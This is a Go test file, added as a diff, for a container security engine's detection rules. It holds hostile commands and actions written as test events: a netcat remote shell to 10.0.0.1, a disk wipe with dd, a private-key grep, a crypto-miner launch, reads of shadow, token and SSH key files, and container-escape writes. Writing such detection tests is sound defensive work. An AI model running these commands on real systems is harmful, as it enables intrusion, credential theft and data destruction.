@@ -1,0 +1,390 @@
+package engine
+
+import (
+	"net/netip"
+	"sort"
+	"strings"
+	"testing"
+
+	"github.com/podguard/podguard/daemon/catalog"
+	"github.com/podguard/podguard/daemon/rulesets"
+	"github.com/podguard/podguard/daemon/workload"
+	"github.com/podguard/podguard/probes"
+)
+
+// fakeResolver places every cgroup in one pod; the engine's pure logic is
+// under test here, the real resolver has its own tests.
+type fakeResolver struct{ initPID uint32 }
+
+func (f fakeResolver) Resolve(cg uint64, pid uint32) workload.Identity {
+	if cg == 0 {
+		return workload.Identity{Kind: workload.KindHost}
+	}
+	return workload.Identity{Kind: workload.KindWorkload,
+		Container: workload.Container{ID: "c1", Name: "app", CgroupID: cg, InitPID: f.initPID},
+		Pod:       workload.Pod{Name: "web", Namespace: "default", UID: "uid-1", Labels: map[string]string{"app": "php"}}}
+}
+
+const cg = 4242
+
+func allRules(m catalog.Mitigation) *rulesets.Snapshot {
+	rs := &rulesets.Ruleset{Name: "all", Rules: map[string]catalog.Mitigation{}}
+	for _, id := range catalog.IDs() {
+		rs.Rules[id] = m
+	}
+	return &rulesets.Snapshot{Generation: 1, Rulesets: []*rulesets.Ruleset{rs}}
+}
+
+// world is an engine with a container whose entrypoint (pid 100, a shell
+// script) runs; tests add processes and events to it.
+type world struct {
+	t *testing.T
+	e *Engine
+}
+
+func newWorld(t *testing.T) *world {
+	e := New(fakeResolver{initPID: 100}, Self{PID: 7, Paths: []string{"/etc/podguard", "/var/lib/podguard", "/usr/bin/podguard"}})
+	e.SetRules(allRules(catalog.Log))
+	w := &world{t: t, e: e}
+	w.handle(exec(100, 50, "/bin/sh", "sh", "/entrypoint.sh"))
+	return w
+}
+
+func (w *world) handle(ev *probes.Event) []string {
+	var ids []string
+	for _, m := range w.e.Handle(ev, nil) {
+		ids = append(ids, m.Rule.ID)
+	}
+	sort.Strings(ids)
+	return ids
+}
+
+func exec(pid, ppid uint32, exe string, args ...string) *probes.Event {
+	return &probes.Event{Kind: probes.KindExec, PID: pid, TGID: pid, PPID: ppid, CgroupID: cg, Exe: exe, Filename: exe, Args: args, Comm: base(exe), UID: 0}
+}
+
+func withComm(ev *probes.Event, comm string) *probes.Event { ev.Comm = comm; return ev }
+func withFlags(ev *probes.Event, f probes.Flags) *probes.Event {
+	ev.Flags |= f
+	return ev
+}
+
+func ev(kind probes.Kind, pid uint32, fill func(*probes.Event)) *probes.Event {
+	e := &probes.Event{Kind: kind, PID: pid, TGID: pid, PPID: 100, CgroupID: cg, Comm: "sh", UID: 0}
+	fill(e)
+	return e
+}
+
+func open(pid uint32, path string, flags, mode uint32) *probes.Event {
+	return ev(probes.KindOpen, pid, func(e *probes.Event) { e.Path, e.FileFlags, e.Mode = path, flags, mode })
+}
+
+// forkShell makes pid a child of the entrypoint running exe (from the
+// image), so its events are judged.
+func (w *world) child(pid uint32, exe string, args ...string) {
+	w.handle(&probes.Event{Kind: probes.KindFork, PID: 100, TGID: 100, CgroupID: cg, ChildPID: pid})
+	w.handle(exec(pid, 100, exe, args...))
+}
+
+func TestEveryRuleHasACondition(t *testing.T) {
+	for _, id := range catalog.IDs() {
+		if conditions[id] == nil {
+			t.Errorf("rule %s has no condition", id)
+		}
+	}
+	for id := range conditions {
+		if _, ok := catalog.Lookup(id); !ok {
+			t.Errorf("condition for unknown rule %s", id)
+		}
+	}
+}
+
+// TestRules gives each rule an event that must trigger exactly it (among
+// others the same event rightly triggers) and a near miss that must not.
+func TestRules(t *testing.T) {
+	type step func(w *world) []string
+	cases := []struct {
+		rule       string
+		hit, miss  step
+		alsoOnHits []string
+	}{
+		{"terminal-shell-in-container",
+			func(w *world) []string { return w.handle(withFlags(exec(200, 9000, "/bin/bash", "bash"), probes.FlagTTY)) },
+			func(w *world) []string { return w.handle(withFlags(exec(100, 50, "/bin/bash", "bash"), probes.FlagTTY)) }, nil},
+		{"shell-spawned-by-server",
+			func(w *world) []string {
+				w.child(200, "/usr/sbin/nginx", "nginx")
+				w.handle(&probes.Event{Kind: probes.KindFork, TGID: 200, CgroupID: cg, ChildPID: 201})
+				return w.handle(exec(201, 200, "/bin/sh", "sh", "-c", "id"))
+			},
+			func(w *world) []string { return w.handle(exec(201, 100, "/bin/sh", "sh", "-c", "date")) }, nil},
+		{"reverse-shell",
+			func(w *world) []string {
+				w.child(200, "/usr/bin/python3", "python3")
+				return w.handle(withFlags(ev(probes.KindDup, 200, func(e *probes.Event) { e.OldFD, e.NewFD = 3, 0 }), probes.FlagInetStdio|probes.FlagOldSocket))
+			},
+			func(w *world) []string {
+				w.child(200, "/usr/bin/python3", "python3")
+				return w.handle(withFlags(ev(probes.KindDup, 200, func(e *probes.Event) { e.OldFD, e.NewFD = 3, 0 }), probes.FlagOldSocket))
+			}, nil},
+		{"netcat-remote-exec",
+			func(w *world) []string { return w.handle(exec(200, 100, "/bin/nc", "nc", "10.0.0.1", "4444", "-e", "/bin/sh")) },
+			func(w *world) []string { return w.handle(exec(200, 100, "/bin/nc", "nc", "10.0.0.1", "4444")) }, nil},
+		{"exec-from-tmp",
+			func(w *world) []string { return w.handle(exec(200, 100, "/tmp/x", "x")) },
+			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/tmpwatch", "tmpwatch")) }, nil},
+		{"container-client-tool",
+			func(w *world) []string { return w.handle(exec(200, 100, "/usr/local/bin/kubectl", "kubectl", "get", "pods")) },
+			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/kubectx", "kubectx")) }, nil},
+		{"container-drift",
+			func(w *world) []string { return w.handle(withFlags(exec(200, 100, "/app/payload", "payload"), probes.FlagUpper)) },
+			func(w *world) []string { return w.handle(exec(200, 100, "/app/payload", "payload")) }, nil},
+		{"new-executable-in-container",
+			func(w *world) []string { return w.handle(open(100, "/app/x", 0x41, 0o755)) },
+			func(w *world) []string { return w.handle(open(100, "/app/x", 0x41, 0o644)) }, nil},
+		{"package-manager-in-container",
+			func(w *world) []string { return w.handle(exec(200, 100, "/sbin/apk", "apk", "add", "nmap")) },
+			func(w *world) []string { return w.handle(exec(200, 100, "/sbin/apkx", "apkx")) }, nil},
+		{"downloader-in-container",
+			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/curl", "curl", "-o", "/tmp/x", "http://e")) },
+			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/curl", "curl", "http://e")) }, nil},
+		{"outbound-nonstandard-port-from-shell",
+			func(w *world) []string {
+				return w.handle(ev(probes.KindConnect, 100, func(e *probes.Event) { e.Family, e.Addr, e.Port = afInet, netip.MustParseAddr("10.1.2.3"), 4444 }))
+			},
+			func(w *world) []string {
+				return w.handle(ev(probes.KindConnect, 100, func(e *probes.Event) { e.Family, e.Addr, e.Port = afInet, netip.MustParseAddr("10.1.2.3"), 443 }))
+			}, nil},
+		{"fileless-exec-memfd",
+			func(w *world) []string { return w.handle(withFlags(exec(200, 100, "/memfd:x (deleted)", "x"), probes.FlagMemfd)) },
+			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/memfd-tool", "memfd-tool")) }, nil},
+		{"ptrace-injection",
+			func(w *world) []string {
+				return w.handle(ev(probes.KindPtrace, 100, func(e *probes.Event) { e.Request, e.TargetPID = ptraceAttach, 300 }))
+			},
+			func(w *world) []string {
+				return w.handle(ev(probes.KindPtrace, 100, func(e *probes.Event) { e.Request, e.TargetPID = 0 /* TRACEME */, 0 }))
+			}, nil},
+		{"proc-mem-access",
+			func(w *world) []string { return w.handle(open(100, "/proc/1/mem", 0, 0)) },
+			func(w *world) []string { return w.handle(open(100, "/proc/self/mem", 0, 0)) }, nil},
+		{"bpf-program-load",
+			func(w *world) []string { return w.handle(ev(probes.KindBPF, 100, func(e *probes.Event) { e.Cmd = bpfProgLoad })) },
+			func(w *world) []string { return w.handle(ev(probes.KindBPF, 100, func(e *probes.Event) { e.Cmd = 0 /* MAP_CREATE */ })) }, nil},
+		{"clear-logs",
+			func(w *world) []string { return w.handle(open(100, "/var/log/auth.log", 0x201, 0)) },
+			func(w *world) []string { return w.handle(open(100, "/var/log/auth.log", 0x401, 0)) }, nil},
+		{"clear-history",
+			func(w *world) []string {
+				return w.handle(ev(probes.KindUnlink, 100, func(e *probes.Event) { e.Path = "/root/.bash_history" }))
+			},
+			func(w *world) []string { return w.handle(open(100, "/root/.bash_history", 0, 0)) }, nil},
+		{"dynamic-linker-hijack",
+			func(w *world) []string { return w.handle(open(100, "/etc/ld.so.preload", 0x241, 0o644)) },
+			func(w *world) []string { return w.handle(open(100, "/etc/ld.so.preload", 0, 0)) }, []string{"write-below-etc"}},
+		{"shadow-file-read",
+			func(w *world) []string { return w.handle(open(100, "/etc/shadow", 0, 0)) },
+			func(w *world) []string { return w.handle(open(100, "/etc/passwd", 0, 0)) }, nil},
+		{"service-account-token-read",
+			func(w *world) []string {
+				w.child(200, "/bin/cat", "cat")
+				return w.handle(open(200, "/var/run/secrets/kubernetes.io/serviceaccount/..2026_11_29/token", 0, 0))
+			},
+			func(w *world) []string {
+				w.child(200, "/app/server", "server")
+				return w.handle(open(200, "/var/run/secrets/kubernetes.io/serviceaccount/token", 0, 0))
+			}, nil},
+		{"private-key-read",
+			func(w *world) []string { return w.handle(open(100, "/root/.ssh/id_ed25519", 0, 0)) },
+			func(w *world) []string { return w.handle(open(100, "/root/.ssh/id_ed25519.pub", 0, 0)) }, nil},
+		{"proc-environ-read",
+			func(w *world) []string { return w.handle(open(100, "/proc/1/environ", 0, 0)) },
+			func(w *world) []string { return w.handle(open(100, "/proc/100/environ", 0, 0)) }, nil},
+		{"credential-search",
+			func(w *world) []string { return w.handle(exec(200, 100, "/bin/grep", "grep", "-r", "BEGIN RSA PRIVATE KEY", "/")) },
+			func(w *world) []string { return w.handle(exec(200, 100, "/bin/grep", "grep", "-r", "TODO", "/src")) }, nil},
+		{"cloud-metadata-access",
+			func(w *world) []string {
+				return w.handle(ev(probes.KindConnect, 100, func(e *probes.Event) { e.Family, e.Addr, e.Port = afInet, netip.MustParseAddr("169.254.169.254"), 80 }))
+			},
+			func(w *world) []string {
+				return w.handle(ev(probes.KindConnect, 100, func(e *probes.Event) { e.Family, e.Addr, e.Port = afInet, netip.MustParseAddr("169.254.169.253"), 80 }))
+			}, nil},
+		{"container-runtime-socket",
+			func(w *world) []string {
+				return w.handle(ev(probes.KindConnect, 100, func(e *probes.Event) { e.Family, e.UnixPath = afUnix, "/host/run/containerd/containerd.sock" }))
+			},
+			func(w *world) []string {
+				return w.handle(ev(probes.KindConnect, 100, func(e *probes.Event) { e.Family, e.UnixPath = afUnix, "/run/app.sock" }))
+			}, nil},
+		{"packet-capture",
+			func(w *world) []string {
+				return w.handle(ev(probes.KindSocket, 100, func(e *probes.Event) { e.Family, e.SockType = afPacket, sockRaw }))
+			},
+			func(w *world) []string {
+				return w.handle(ev(probes.KindSocket, 100, func(e *probes.Event) { e.Family, e.SockType = afInet, 1 }))
+			}, nil},
+		{"network-scanner",
+			func(w *world) []string { return w.handle(exec(200, 100, "/bin/nc", "nc", "-zv", "10.0.0.1", "1-1024")) },
+			func(w *world) []string { return w.handle(exec(200, 100, "/bin/nc", "nc", "-v", "10.0.0.1", "80")) }, nil},
+		{"ssh-client-in-container",
+			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/ssh", "ssh", "root@10.0.0.2")) },
+			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/ssh-keygen", "ssh-keygen")) }, nil},
+		{"kernel-module-load",
+			func(w *world) []string { return w.handle(ev(probes.KindModule, 100, func(e *probes.Event) { e.ModuleFD = 3 })) },
+			func(w *world) []string { return w.handle(open(100, "/lib/modules/x.ko", 0, 0)) }, nil},
+		{"write-below-binary-dir",
+			func(w *world) []string { return w.handle(open(100, "/usr/bin/ls", 0x241, 0o644)) },
+			func(w *world) []string {
+				w.child(200, "/sbin/apk", "apk", "add", "curl")
+				return w.handle(open(200, "/usr/bin/curl", 0x241, 0o644))
+			}, nil},
+		{"write-below-etc",
+			func(w *world) []string { return w.handle(open(100, "/etc/nginx/nginx.conf", 0x241, 0o644)) },
+			func(w *world) []string { return w.handle(open(100, "/etc/resolv.conf", 0x241, 0o644)) }, nil},
+		{"account-manipulation",
+			func(w *world) []string { return w.handle(open(100, "/etc/passwd", 0x401, 0)) },
+			func(w *world) []string { return w.handle(open(100, "/etc/passwd", 0, 0)) }, []string{"write-below-etc"}},
+		{"shell-profile-persistence",
+			func(w *world) []string { return w.handle(open(100, "/root/.bashrc", 0x441, 0o644)) },
+			func(w *world) []string { return w.handle(open(100, "/root/.bashrc", 0, 0)) }, nil},
+		{"cron-persistence",
+			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/crontab", "crontab", "-")) },
+			func(w *world) []string { return w.handle(open(100, "/etc/crontab", 0, 0)) }, nil},
+		{"ssh-authorized-keys-change",
+			func(w *world) []string { return w.handle(open(100, "/root/.ssh/authorized_keys", 0x441, 0o600)) },
+			func(w *world) []string { return w.handle(open(100, "/root/.ssh/authorized_keys", 0, 0)) }, nil},
+		{"init-persistence",
+			func(w *world) []string { return w.handle(open(100, "/etc/systemd/system/evil.service", 0x241, 0o644)) },
+			func(w *world) []string { return w.handle(open(100, "/etc/systemd/system/evil.service", 0, 0)) }, []string{"write-below-etc"}},
+		{"namespace-escape",
+			func(w *world) []string {
+				return w.handle(ev(probes.KindUnshare, 100, func(e *probes.Event) { e.NSFlags = cloneNewUser | cloneNewNS }))
+			},
+			func(w *world) []string {
+				return w.handle(ev(probes.KindUnshare, 100, func(e *probes.Event) { e.NSFlags = 0x400 /* CLONE_FILES */ }))
+			}, nil},
+		{"cgroup-release-agent",
+			func(w *world) []string { return w.handle(open(100, "/tmp/cg/release_agent", 0x1, 0)) },
+			func(w *world) []string { return w.handle(open(100, "/tmp/cg/release_agent", 0, 0)) }, nil},
+		{"kernel-hook-tamper",
+			func(w *world) []string { return w.handle(open(100, "/proc/sys/kernel/core_pattern", 0x1, 0)) },
+			func(w *world) []string { return w.handle(open(100, "/proc/sys/kernel/core_pattern", 0, 0)) }, nil},
+		{"mount-in-container",
+			func(w *world) []string {
+				return w.handle(ev(probes.KindMount, 100, func(e *probes.Event) { e.Source, e.Target, e.FSType = "/dev/vda", "/mnt", "ext4" }))
+			},
+			func(w *world) []string {
+				return w.handle(ev(probes.KindMount, 100, func(e *probes.Event) { e.Source, e.Target, e.FSType = "tmpfs", "/mnt", "tmpfs" }))
+			}, nil},
+		{"host-device-access",
+			func(w *world) []string { return w.handle(open(100, "/dev/vda", 0, 0)) },
+			func(w *world) []string { return w.handle(open(100, "/dev/null", 0x1, 0)) }, nil},
+		{"runtime-binary-overwrite",
+			func(w *world) []string { return w.handle(open(100, "/proc/self/exe", 0x1, 0)) },
+			func(w *world) []string { return w.handle(open(100, "/proc/self/exe", 0, 0)) }, nil},
+		{"privilege-raise-to-root",
+			func(w *world) []string {
+				return w.handle(ev(probes.KindSetID, 100, func(e *probes.Event) { e.UID, e.IDs = 1000, [3]int32{0, -1, -1} }))
+			},
+			func(w *world) []string {
+				return w.handle(ev(probes.KindSetID, 100, func(e *probes.Event) { e.UID, e.IDs = 0, [3]int32{1000, -1, -1} }))
+			}, nil},
+		{"setuid-bit-set",
+			func(w *world) []string {
+				return w.handle(ev(probes.KindChmod, 100, func(e *probes.Event) { e.Path, e.Mode = "/app/sh", 0o4755 }))
+			},
+			func(w *world) []string {
+				return w.handle(ev(probes.KindChmod, 100, func(e *probes.Event) { e.Path, e.Mode = "/app/data", 0o644 }))
+			}, []string{"new-executable-in-container"}},
+		{"sudo-in-container",
+			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/sudo", "sudo", "id")) },
+			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/id", "id")) }, nil},
+		{"crypto-miner",
+			func(w *world) []string {
+				return w.handle(exec(200, 100, "/app/kworker", "kworker", "-o", "stratum+tcp://pool:3333", "-u", "x"))
+			},
+			func(w *world) []string { return w.handle(exec(200, 100, "/app/kworker", "kworker", "-o", "out.txt")) }, nil},
+		{"mining-pool-connection",
+			func(w *world) []string {
+				w.child(200, "/app/server", "server")
+				return w.handle(ev(probes.KindConnect, 200, func(e *probes.Event) { e.Family, e.Addr, e.Port = afInet, netip.MustParseAddr("8.8.4.4"), 3333 }))
+			},
+			func(w *world) []string {
+				w.child(200, "/app/server", "server")
+				return w.handle(ev(probes.KindConnect, 200, func(e *probes.Event) { e.Family, e.Addr, e.Port = afInet, netip.MustParseAddr("10.0.0.5"), 3333 }))
+			}, nil},
+		{"data-destruction",
+			func(w *world) []string { return w.handle(exec(200, 100, "/bin/dd", "dd", "if=/dev/zero", "of=/dev/vda")) },
+			func(w *world) []string { return w.handle(exec(200, 100, "/bin/dd", "dd", "if=/dev/zero", "of=/tmp/f")) }, nil},
+		{"podguard-tamper",
+			func(w *world) []string { return w.handle(open(100, "/host/etc/podguard/rules.d/x.toml", 0x241, 0o644)) },
+			func(w *world) []string { return w.handle(open(100, "/host/etc/podguard/rules.d/x.toml", 0, 0)) }, nil},
+		{"kubernetes-api-contact", nil, nil, nil}, // needs a real init process environment: tested end to end
+	}
+	covered := map[string]bool{}
+	for _, c := range cases {
+		covered[c.rule] = true
+		if c.hit == nil {
+			continue
+		}
+		t.Run(c.rule, func(t *testing.T) {
+			got := c.hit(newWorld(t))
+			want := append([]string{c.rule}, c.alsoOnHits...)
+			sort.Strings(want)
+			if strings.Join(got, ",") != strings.Join(want, ",") {
+				t.Errorf("hit: rules %v, want %v", got, want)
+			}
+			for _, id := range c.miss(newWorld(t)) {
+				if id == c.rule {
+					t.Errorf("near miss triggered %s", id)
+				}
+			}
+		})
+	}
+	for _, id := range catalog.IDs() {
+		if !covered[id] {
+			t.Errorf("rule %s has no case in TestRules", id)
+		}
+	}
+}
+
+func TestRuntimeInitIsNotJudged(t *testing.T) {
+	w := newWorld(t)
+	// runc:[2:INIT] of a new exec session mounting and calling setns before
+	// it executes the user's command: not an attack.
+	if got := w.handle(ev(probes.KindSetns, 555, func(e *probes.Event) { e.PPID = 9000; e.Comm = "runc:[2:INIT]" })); len(got) != 0 {
+		t.Fatalf("runtime init judged: %v", got)
+	}
+	if got := w.handle(withFlags(exec(555, 9000, "/bin/sh", "sh"), probes.FlagTTY)); strings.Join(got, ",") != "terminal-shell-in-container" {
+		t.Fatalf("exec session shell: %v", got)
+	}
+}
+
+func TestSelectionAndWatch(t *testing.T) {
+	snap := &rulesets.Snapshot{Generation: 1, Rulesets: []*rulesets.Ruleset{
+		{Name: "php", Labels: map[string]string{"app": "php"}, Rules: map[string]catalog.Mitigation{"fileless-exec-memfd": catalog.Terminate, "shadow-file-read": catalog.Log}},
+	}}
+	kinds, kill := Watch(snap, map[string]string{"app": "php"}, false)
+	if !kinds.Has(probes.KindExec) || !kinds.Has(probes.KindOpen) || kinds.Has(probes.KindConnect) || kill != probes.KillMemfdExec {
+		t.Fatalf("kinds %v kill %v", kinds, kill)
+	}
+	if _, kill := Watch(snap, map[string]string{"app": "php"}, true); kill != 0 {
+		t.Fatalf("dry run must arm no kill: %v", kill)
+	}
+	if kinds, _ := Watch(snap, map[string]string{"app": "nginx"}, false); kinds != 0 {
+		t.Fatalf("unselected pod: kinds %v", kinds)
+	}
+	e := New(fakeResolver{initPID: 100}, Self{})
+	e.SetRules(snap)
+	e.Handle(exec(100, 50, "/bin/sh", "sh"), nil)
+	ms := e.Handle(open(100, "/etc/shadow", 0, 0), nil)
+	if len(ms) != 1 || ms[0].Verdict.Mitigation != catalog.Log || ms[0].Verdict.Ruleset != "php" || ms[0].Identity.Pod.Name != "web" {
+		t.Fatalf("matches %+v", ms)
+	}
+	if ms := e.Handle(hostEvent(open(100, "/etc/shadow", 0, 0)), nil); len(ms) != 0 {
+		t.Fatalf("host event matched: %+v", ms)
+	}
+}
+
+func hostEvent(e *probes.Event) *probes.Event { e.CgroupID = 0; return e }
